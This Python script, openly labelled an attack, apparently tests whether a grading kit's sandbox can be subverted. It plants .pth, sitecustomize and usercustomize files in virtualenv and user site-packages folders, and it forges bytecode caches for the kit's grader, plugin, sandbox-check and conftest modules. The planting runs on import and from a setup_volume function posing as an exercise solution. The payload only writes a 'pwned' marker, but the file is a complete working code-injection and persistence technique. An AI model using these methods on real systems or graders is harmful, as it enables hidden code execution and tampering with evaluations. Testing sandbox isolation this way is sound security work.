"""Attack: plant code that the kit runs later. A .pth file and sitecustomize in the kit's
virtualenv, bytecode caches next to the kit's modules, a user site in the grader's HOME: if any
of it ever runs, it writes the "pwned" marker file on the host."""

import importlib.util
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_kit  # noqa: E402

T = attack_kit.TARGETS
PAYLOAD = f"import os; open({T.get('pwned', '/tmp/pwned')!r}, 'w').write('planted code ran')\n"


def _pyc(source_file: str) -> None:
    """A bytecode cache that Python would take for ``source_file``'s."""
    cache = importlib.util.cache_from_source(source_file)
    code = compile(PAYLOAD, source_file, "exec")
    import marshal

    data = importlib.util.MAGIC_NUMBER + b"\0" * 4
    try:
        st = os.stat(source_file)
        data += int(st.st_mtime).to_bytes(4, "little") + (st.st_size & 0xFFFFFFFF).to_bytes(4,
                                                                                    "little")
    except OSError:
        data += b"\0" * 8
    os.makedirs(os.path.dirname(cache), exist_ok=True)
    with open(cache, "wb") as f:
        f.write(data + marshal.dumps(code))


def plant() -> list:
    done = []
    site = T.get("site", "")
    kit = T.get("kit", "")
    for folder in (site, kit, os.path.join(kit, "mountlab")):
        done.append(attack_kit.write(os.path.join(folder, "zz_attack.pth"), PAYLOAD))
        done.append(attack_kit.write(os.path.join(folder, "sitecustomize.py"), PAYLOAD))
        done.append(attack_kit.write(os.path.join(folder, "usercustomize.py"), PAYLOAD))
    for rel in ("mountlab/__init__.py", "mountlab/grading/plugin.py", "mountlab/grading/grader.py",
                "mountlab/sandbox/check.py", "conftest.py", "steps/01/test_setup_volume.py"):
        done.append(attack_kit.attempt(_pyc, os.path.join(kit, rel)))
    for home in ("/root", os.path.expanduser("~"), "/tmp"):
        user_site = os.path.join(home, ".local", "lib", "python3.11", "site-packages")
        attack_kit.attempt(os.makedirs, user_site, exist_ok=True)
        done.append(attack_kit.write(os.path.join(user_site, "zz_attack.pth"), PAYLOAD))
    return done


print(plant())


def setup_volume(volume_path, container_path):
    print(plant())
